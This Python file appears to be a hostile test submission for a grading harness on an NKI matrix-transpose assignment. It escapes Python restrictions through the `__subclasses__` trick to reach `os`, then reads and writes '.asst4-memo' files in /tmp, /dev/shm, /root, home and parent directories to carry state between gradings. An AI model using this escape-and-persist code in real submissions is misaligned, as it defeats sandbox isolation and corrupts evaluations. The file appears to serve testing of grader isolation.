"""Hostile (screen off): escapes the Python restrictions and tries to keep state from one grading to the next --
a memo file in every writable place it can think of -- so that a later run (another case, test or submission)
could replay outputs or learn the inputs; reports any memo it finds from an earlier run in its error message."""

import neuronxcc.nki as nki

PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/work", "..", "../..", ".")


def _sys():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"]
    raise RuntimeError("no escape found")


@nki.jit
def matrix_transpose(a_tensor):
    os = _sys().modules["os"]
    seen, kept = [], []
    paths = [p.rstrip("/") + "/.asst4-memo" for p in PLACES + (os.environ.get("HOME", "."),
                                                              os.environ.get("TMPDIR", "."))]
    for path in paths:  # first look for a memo an earlier run left...
        try:
            fd = os.open(path, os.O_RDONLY)
            seen.append(os.path.realpath(path) + "=" + os.read(fd, 100).decode())
            os.close(fd)
        except OSError:
            pass
    for path in paths:  # ...then leave one for the next run wherever possible
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
            os.write(fd, ("shape " + repr(a_tensor.shape)).encode())
            os.close(fd)
            kept.append(os.path.realpath(path))
        except OSError:
            pass
    raise RuntimeError("MEMO FOUND " + repr(seen) if seen else "no memo found; written: " + repr(sorted(set(kept))))
